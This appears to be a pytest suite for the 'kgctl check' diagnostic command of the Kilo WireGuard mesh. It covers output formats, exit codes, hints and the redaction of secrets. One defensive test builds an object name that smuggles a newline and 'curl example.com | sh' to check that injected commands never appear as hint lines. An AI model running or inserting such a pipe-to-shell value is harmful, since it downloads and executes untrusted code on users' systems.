"""What `kgctl check` shows, in which form, and with which exit code; what it finds is in tests/findings/."""

import json
import re
import shutil
from pathlib import Path
from typing import Any

import junitparser
import pytest
from hypothesis import given
from hypothesis import strategies as st

from kgctl_py import names
from kgctl_py.findings import Code
from kgctl_py.findings.check_sections import SECTIONS
from tests.cli.in_terminal import kgctl_in_terminal
from tests.cli.kgctl import kgctl, shell
from tests.findings.cases import HEALTHY
from tests.in_memory import EXAMPLE, Cluster, node, peer
from tests.strategies import clusters, hostile

KILO = {"app.kubernetes.io/name": "kilo"}
EVERY_FORM = ("text", "short", "json", "junit")


def check(cluster: Cluster, *options: str) -> Any:
    return kgctl("--from-file", "-", "check", *options, stdin=cluster.as_list().encode())


def healthy(**more: str) -> Cluster:
    """Return a mesh with nothing wrong in it; of `more` a node "b" has annotations, as ones to be warned of."""
    return Cluster([HEALTHY[0], node("b", 2, "b", **more)] if more else HEALTHY[:2], HEALTHY[2:])


def test_the_example_has_exactly_the_faults_that_it_is_known_for() -> None:
    run = kgctl("--from-file", str(EXAMPLE), "check", "-o", "json")
    told = json.loads(run.stdout)
    found = [f for section in told["sections"] for check in section["checks"] for f in check["findings"]]
    assert [(f["code"], f["subject"]) for f in found if f["severity"] != "note"] == [
        ("K-NODE-STALE", {"kind": "node", "name": "berlin-4"}),
        ("K-IP-VERSION", {"kind": "node", "name": "paris-3"}),
        ("K-PEER-ROAM", {"kind": "peer", "name": "phone"}),
    ]
    assert (told["errors"], told["warnings"], told["passed"], run.exit_code) == (2, 1, False, 1)


def test_a_line_tells_code_subject_and_matter_and_the_next_what_to_type() -> None:
    run = check(healthy(leader="false"))
    line = '‼ K-LEADER-FALSE node "b": kilo.squat.ai/leader "false" has the effect of "true"'
    hint = "    hint: remove the annotation in the live cluster: kubectl annotate node b kilo.squat.ai/leader-"
    lines = run.stdout.splitlines()
    (index,) = [n for n, text in enumerate(lines) if text.startswith(line)]
    assert lines[index + 1] == hint
    assert run.stdout.endswith("\nStatus: 1 warning (7 skipped)\n")


def test_a_command_is_for_the_cluster_that_the_options_name() -> None:
    cluster = Cluster([node("n", leader="false")], [peer("p")])
    plain, named = (
        {
            one["code"]: (one["hint"], one["command"])
            for section in json.loads(cluster.kgctl(*options, "check", "-o", "json").stdout)["sections"]
            for check in section["checks"]
            for one in check["findings"]
        }
        for options in ((), ("--context", "my prod"))
    )
    command = "kgctl peer set p --keepalive 25"
    assert plain["K-PEER-ROAM"] == (f"set a keepalive: {command}", command)
    command = "kgctl --context 'my prod' peer set p --keepalive 25"
    assert named["K-PEER-ROAM"] == (f"set a keepalive: {command}", command)
    assert named["K-LEADER-FALSE"][1] == "kubectl --context 'my prod' annotate node n kilo.squat.ai/leader-"
    assert named["K-PEER-UNSEEN"] == plain["K-PEER-UNSEEN"]


@pytest.mark.parametrize(
    ("annotations", "options", "code"),
    [
        ({}, (), 0),
        ({}, ("--strict",), 0),
        ({"leader": "false"}, (), 0),
        ({"leader": "false"}, ("--strict",), 1),
        ({"leader": "false"}, ("--strict", "--only", "peers"), 0),
        ({"key": ""}, (), 1),
        ({"key": ""}, ("--only", "peers,topology"), 0),
    ],
)
@pytest.mark.parametrize("form", EVERY_FORM)
def test_the_exit_code_tells_of_errors_and_when_strict_of_warnings(
    annotations: dict[str, str], options: tuple[str, ...], code: int, form: str
) -> None:
    assert check(healthy(**annotations), "-o", form, *options).exit_code == code


def test_a_single_segment_is_counted_in_the_singular() -> None:
    assert "topology (1 segment, granularity location)" in check(Cluster(HEALTHY[:1], [])).stdout
    assert "topology (2 segments, granularity location)" in check(Cluster(HEALTHY[:2], [])).stdout


def test_verbose_says_for_which_time_ages_of_a_saved_cluster_are() -> None:
    told = kgctl("--from-file", str(EXAMPLE), "check", "--verbose").stderr
    assert "ages are as of 2026-01-01T09:00:00Z; DNS names are not resolved\n" in told
    without_reports = check(Cluster([], [peer("p", 1)]), "--verbose").stderr
    assert re.fullmatch(r"kgctl: ages are as of 2\S+Z; DNS names are not resolved\n", without_reports)
    far = Cluster([node("a", 1, **{"last-seen": str(2**62)})], [])
    assert check(far, "--verbose").stderr.startswith("kgctl: DNS names are not resolved\n")


def test_only_the_sections_that_are_named_are_shown() -> None:
    for options in (("--only", "peers,nodes"), ("--only", "nodes", "--only", "peers")):
        told = json.loads(check(healthy(), "-o", "json", *options).stdout)
        assert [section["name"] for section in told["sections"]] == ["nodes", "peers"]


@pytest.mark.parametrize(
    ("options", "words"),
    [
        (
            ("--only", "pods"),
            (
                '--section "pods" is not one of kubernetes, nodes, topology, peers, or local\n'
                "hint: for example: --section nodes\n"
            ),
        ),
        (("--only", ""), '--section "" is not one of'),
        (("wg0",), "to check an interface or a file, add --local"),
        (("nodes",), "to check only this section, use --section nodes"),
        (("--wait",), "exclude each other: a saved cluster does not change"),
        (("-o", "yaml"), '--output "yaml" is not one of'),
    ],
)
def test_what_makes_no_sense_is_refused(options: tuple[str, ...], words: str) -> None:
    run = check(healthy(), *options)
    assert (run.exit_code, run.stdout) == (2, "")
    assert words in run.stderr


def test_short_is_nothing_when_all_is_well_and_lines_of_what_is_not() -> None:
    assert check(healthy(), "-o", "short").stdout == ""
    short = check(healthy(leader="false"), "-o", "short").stdout.splitlines()
    assert [line[:16] for line in short] == ["‼ K-LEADER-FALSE", "    hint: remove"]


def test_notes_are_counted_and_shown_when_more_is_asked_for() -> None:
    unseen = Cluster(HEALTHY[:2], [*HEALTHY[2:], peer("q", 9, persistentKeepalive=25)])
    shown = check(unseen).stdout
    assert "√ peers (2): 9 checks passed, 1 skipped (" in shown
    assert "), 1 note (to see them, add --verbose)\n" in shown
    assert shown.endswith("\nStatus: all checks passed (1 note, 7 skipped)\n")
    assert 'i K-PEER-UNSEEN peer "q": ' in check(unseen, "--verbose").stdout
    assert check(unseen, "--strict").exit_code == 0


def test_a_section_without_a_problem_is_a_line_and_verbose_opens_it() -> None:
    shown = check(healthy(leader="false")).stdout
    lines = shown.splitlines()
    assert lines[0] == "√ kubernetes: the cluster is read from a file: stdin"
    assert lines[2].startswith("√ peers (1): 9 checks passed, 1 skipped (DNS names of endpoints are not resolved ")
    assert "no two peers have the same address or key" not in shown
    assert "\n√ no two peers have the same address or key\n" in check(healthy(), "--verbose").stdout


def test_the_same_hint_follows_all_that_share_it() -> None:
    many = Cluster([*HEALTHY[:2], *(node(f"n{n}", n, "a", last_seen="1") for n in range(3, 6))], HEALTHY[2:])
    for form in ("text", "short"):
        lines = check(many, "-o", form).stdout.splitlines()
        starts = [line.split()[0] for line in lines if "K-NODE-STALE" in line or "hint: " in line]
        assert starts == ["×", "×", "×", "hint:"]  # noqa: RUF001


def test_of_many_of_a_kind_only_some_are_shown_unless_all_are_asked_for() -> None:
    many = Cluster([node(f"n{n}", n, f"l{n}", leader="false") for n in range(1, 9)])
    for form in ("text", "short"):
        assert check(many, "-o", form).stdout.count("‼ K-LEADER-FALSE") == 5
        assert "    and 3 more K-LEADER-FALSE; to see all, add --verbose\n" in check(many, "-o", form).stdout
        assert check(many, "-o", form, "--verbose").stdout.count("‼ K-LEADER-FALSE") == 8
    assert check(many, "-o", "json").stdout.count('"K-LEADER-FALSE"') == 8


def test_junit_is_read_by_a_real_reader_and_says_the_same() -> None:
    cluster = Cluster([HEALTHY[0], node("b", 2, "b", leader="false"), node("c", 3, key="")], HEALTHY[2:])
    for options, failures in (((), 1), (("--strict",), 2)):
        read = junitparser.JUnitXml.fromstring(check(cluster, "-o", "junit", *options).stdout.encode())
        assert [suite.name for suite in read] == [section.name for section in SECTIONS[:-1]]
        assert (read.failures, sum(suite.failures for suite in read)) == (failures, failures)
        results = [result for suite in read for case in suite for result in case.result]
        failed = [result for result in results if isinstance(result, junitparser.Failure)]
        assert {"K-NODE-NOKEY"} <= {result.type for result in failed}
        assert len(failed) == failures
        skipped = [result for result in results if isinstance(result, junitparser.Skipped)]
        assert any("are not resolved" in str(result.message) for result in skipped)
        assert read.tests == sum(len(list(suite)) for suite in read)


@pytest.mark.skipif(not shutil.which("bash"), reason="there is no bash")
def test_an_encoding_without_the_signs_gets_plain_ones(tmp_path: Path) -> None:
    koeln = Cluster([node("a", 1, "Köln", leader="false"), node("b", 2, "Köln")], HEALTHY[2:])
    (tmp_path / "list.json").write_text(koeln.as_list())
    run = shell("PYTHONIOENCODING=ascii kgctl --from-file list.json check --verbose", tmp_path)
    assert (run.returncode, run.stderr.count(b"\n")) == (0, 1)
    lines = run.stdout.decode("ascii").splitlines()
    assert [line.split()[1] for line in lines if line.startswith("!!")] == ["K-LEADER-FALSE", "K-LEADER-DRIFT"]
    assert "ok the endpoints of all leaders look reachable" in lines
    assert "location:K\\xf6ln" in run.stdout.decode("ascii")


def test_a_terminal_gets_colours_and_folded_lines_and_a_pipe_gets_neither(tmp_path: Path) -> None:
    shown = kgctl_in_terminal("--from-file", str(EXAMPLE), "check", columns=80)
    assert "\033[31m×\033[0m K-NODE-STALE" in shown.stdout  # noqa: RUF001
    plain = shown.stdout
    for number in (32, 33, 31, 2, 36, 0):
        plain = plain.replace(f"\033[{number}m", "")
    assert "\033" not in plain
    assert max(len(line) for line in plain.splitlines() if "hint: " not in line) <= 80  # to copy it, it is whole
    bare = kgctl_in_terminal("--from-file", str(EXAMPLE), "check", columns=80, env={"NO_COLOR": "1"})
    assert bare.stdout == plain
    piped = kgctl("--from-file", str(EXAMPLE), "check").stdout
    assert max(map(len, piped.splitlines())) > 100
    assert piped.split() == plain.split()


@given(clusters(hostile), st.sampled_from(EVERY_FORM))
def test_whatever_somebody_writes_starts_no_line_and_reaches_no_terminal(cluster: Cluster, form: str) -> None:
    run = check(cluster, "-o", form, "--verbose")
    assert "fault of kgctl" not in run.stderr
    if not run.stdout:  # no object may have an empty name
        return
    assert run.stdout.replace("\n", "").isprintable()
    match form:
        case "short":
            starts = ("    hint: ", "√ ", "‼ ", "× ", "i ", "- ")  # noqa: RUF001
            assert all(line.startswith(starts) for line in run.stdout.splitlines())
        case "json":
            told = json.loads(run.stdout)
            assert (told["errors"] == 0) is told["passed"] is (run.exit_code == 0)
        case "junit":
            read = junitparser.JUnitXml.fromstring(run.stdout.encode())
            assert (read.failures == 0) is (run.exit_code == 0)


def test_no_name_starts_a_line_of_a_hint() -> None:
    forged = "n\ncurl example.com | sh"
    pod = {
        "apiVersion": "v1",
        "kind": "Pod",
        "metadata": {"name": forged, "labels": KILO},
        "spec": {"nodeName": "a"},
    }
    objects = [HEALTHY[0], node(forged, 2, "b", leader="no"), peer(forged, persistentKeepalive=0)]
    items = [*objects, {**pod, "status": {"phase": "Failed"}}]
    stdin = json.dumps({"apiVersion": "v1", "kind": "List", "items": items}).encode()
    shown = kgctl("--from-file", "-", "check", stdin=stdin).stdout
    assert {"K-LEADER-FALSE", "K-PEER-ROAM", "K-KG-POD"} <= set(shown.split())
    assert not [line for line in shown.splitlines() if line.lstrip().startswith(("hint: curl", "curl"))]


@pytest.mark.parametrize(
    ("reason", "restarts", "trouble", "command"),
    [
        ("CrashLoopBackOff", 1, "CrashLoopBackOff after 1 restart", "logs kilo-1 -c kilo"),
        ("CrashLoopBackOff", 2, "CrashLoopBackOff after 2 restarts", "logs kilo-1 -c kilo"),
        ("ImagePullBackOff", 0, "ImagePullBackOff", "describe pod kilo-1"),
    ],
)
def test_a_pod_whose_kg_has_not_started_has_events_and_no_log(
    reason: str, restarts: int, trouble: str, command: str
) -> None:
    container = {"name": "kilo", "restartCount": restarts, "state": {"waiting": {"reason": reason}}}
    pod = {
        "apiVersion": "v1",
        "kind": "Pod",
        "metadata": {"name": "kilo-1", "namespace": "kube-system", "labels": KILO},
        "spec": {"nodeName": HEALTHY[0]["metadata"]["name"]},
        "status": {"phase": "Pending", "containerStatuses": [container]},
    }
    stdin = json.dumps({"apiVersion": "v1", "kind": "List", "items": [*HEALTHY, pod]}).encode()
    shown = kgctl("--from-file", "-", "check", "-o", "short", stdin=stdin).stdout.splitlines()
    (line,) = [number for number, text in enumerate(shown) if "K-KG-POD" in text]
    assert shown[line].endswith(f"is not running correctly: {trouble}")
    assert shown[line + 1].endswith(f": kubectl -n kube-system {command}")


@pytest.mark.parametrize(("allowed_ips", "still"), [(["10.5.0.9/32"], "has access"), ([], "exists")])
def test_an_expired_peer_has_access_only_if_kilo_uses_it(allowed_ips: list[str], still: str) -> None:
    expired = peer("q", allowedIPs=allowed_ips)
    expired["metadata"]["annotations"] = {names.EXPIRES: "2020-01-01T00:00:00Z"}
    shown = check(Cluster(HEALTHY[:2], [*HEALTHY[2:], expired]), "-o", "short").stdout
    assert f'K-PEER-EXPIRED peer "q": it expired at 2020-01-01T00:00:00Z, but still {still}\n' in shown


def test_a_file_that_cannot_be_used_is_an_error_as_for_every_command(tmp_path: Path) -> None:
    run = kgctl("--from-file", str(tmp_path / "missing"), "check")
    assert (run.exit_code, run.stdout) == (1, "")
    assert run.stderr.startswith('kgctl: cannot read "')


def test_a_preshared_key_is_in_no_form(tmp_path: Path) -> None:
    secret = Cluster(HEALTHY[:2], [peer("p", presharedKey="almost-a-secret")])
    for form in EVERY_FORM:
        run = check(secret, "-o", form, "--verbose")
        assert Code.PEER_PSK in run.stdout
        assert "almost-a-secret" not in run.stdout + run.stderr
